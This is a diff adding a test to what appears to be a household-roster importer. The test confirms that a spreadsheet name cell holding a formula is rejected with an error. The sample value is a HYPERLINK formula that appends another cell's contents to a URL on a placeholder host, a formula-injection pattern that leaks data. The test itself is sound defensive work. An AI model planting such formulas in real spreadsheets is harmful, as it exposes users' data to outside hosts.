@@ -136,3 +136,13 @@ def test_reasons_and_notes_pass_the_same_door_and_may_span_lines(db, admin):
     assert StockMove.select().count() == moves
     move = stock.stock_out(actor=admin, product_id=salt.id, quantity=1, reason=" 过期\r\n  两袋破损 ")
     assert move.reason == "过期\n两袋破损"
+
+
+def test_a_formula_in_a_name_cell_is_called_a_formula_not_a_missing_name(db, admin, tmp_path):
+    people = good_people()
+    people[1][5] = '=HYPERLINK("http://x/?"&H5,"点我")'  # openpyxl writes it as a formula with no computed value
+    result = import_roster(actor=admin, path=write_roster(tmp_path / "r.xlsx", people), village="柳溪村")
+    assert not result.written
+    assert [str(f) for f in result.faults if f.row == 5] == [
+        '第 5 行：姓名一格是公式（=HYPERLINK("http://x/?"&H5,"点我")），不是姓名：请改成文字后再导入']
+    assert Household.select().count() == 0
